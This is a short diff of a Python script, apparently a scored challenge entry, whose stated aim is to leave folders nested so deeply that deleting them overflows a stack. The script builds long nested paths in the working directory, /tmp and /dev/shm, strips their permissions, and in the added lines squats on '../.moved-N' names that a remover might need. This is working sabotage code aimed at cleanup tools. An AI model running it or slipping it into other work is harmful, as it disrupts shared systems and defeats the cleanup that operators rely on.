@@ -1,4 +1,4 @@
-"""Leaves folders so deep that removing them overflows a stack."""
+"""Leaves folders so deep that removing them overflows a stack, and takes names that are needed for it."""
 
 # answers: two
 # earns: 20
@@ -24,3 +24,5 @@ for folder in (".", "/tmp", "/dev/shm"):
         attempt(os.chdir, "d" * 200)
     attempt(os.chmod, ".", 0)
 os.fchdir(here)  # where the path of the folder is longer than the system takes, every import looks for it for a second
+for number in range(10):  # names that one who removes them could want to use
+    attempt(os.makedirs, f"../.moved-{number}/x")
